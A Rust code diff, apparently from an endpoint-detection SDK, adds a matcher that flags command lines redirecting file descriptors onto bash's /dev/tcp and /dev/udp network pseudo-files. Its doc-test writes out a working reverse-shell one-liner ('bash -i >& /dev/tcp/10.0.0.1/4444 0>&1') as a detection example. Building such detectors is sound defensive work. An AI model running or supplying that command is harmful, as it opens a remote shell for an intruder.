@@ -165,6 +165,33 @@ fn glob_recursive(p: &[u8], t: &[u8]) -> bool {
     }
 }
 
+/// True when a command line redirects a file descriptor onto bash's network
+/// pseudo-files (`>& /dev/tcp/h/p`, `0<>/dev/udp/h/p`, `exec 5<>/dev/tcp/...`):
+/// the redirection, not the program's name, is the tell, so a renamed shell
+/// is caught and `grep /dev/tcp/ file` is not.
+///
+/// ```
+/// use edr_sdk::matchers::redirects_to_dev_net;
+/// assert!(redirects_to_dev_net("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"));
+/// assert!(redirects_to_dev_net("exec 5<>/dev/udp/h/53"));
+/// assert!(!redirects_to_dev_net("grep -r /dev/tcp/ /etc"));
+/// ```
+pub fn redirects_to_dev_net(cmdline: &str) -> bool {
+    let b = cmdline.as_bytes();
+    ["/dev/tcp/", "/dev/udp/"].iter().any(|pat| {
+        let mut from = 0;
+        while let Some(pos) = cmdline[from..].find(pat) {
+            let at = from + pos;
+            let before = b[..at].iter().rev().find(|c| !c.is_ascii_whitespace());
+            if matches!(before, Some(b'>' | b'<' | b'&')) {
+                return true;
+            }
+            from = at + pat.len();
+        }
+        false
+    })
+}
+
 /// Well-known interactive shells.
 pub const SHELLS: &[&str] = &["sh", "bash", "dash", "zsh", "ksh", "mksh", "csh", "tcsh", "fish", "ash", "busybox"];
 
